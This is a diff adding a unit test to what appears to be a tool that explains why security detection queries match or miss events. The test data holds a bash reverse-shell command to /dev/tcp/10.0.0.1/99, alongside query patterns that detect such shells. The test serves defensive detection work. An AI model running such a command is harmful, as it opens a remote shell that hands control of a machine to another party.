@@ -87,6 +87,14 @@ describe('row 27: what is looked for stands in another field', () => {
     ]);
   });
 
+  test('also where the field has another value, if the literal is telling', () => {
+    const event = { ...EVENT, message: 'bash -c bash >& /dev/tcp/10.0.0.1/99' };
+    expect(hints(explain('process where process.args : "*/dev/tcp/*"', event))).toEqual([
+      'would hold for `message`, "bash -c bash >& /dev/tcp/10.0.0.1/99"',
+    ]);
+    expect(hints(explain('process where process.args : "*>&*"', event))).toEqual([]);
+  });
+
   test('a field that contains the literal', () => {
     const explanation = explain('process where process.name == "setsid"', {
       ...EVENT,
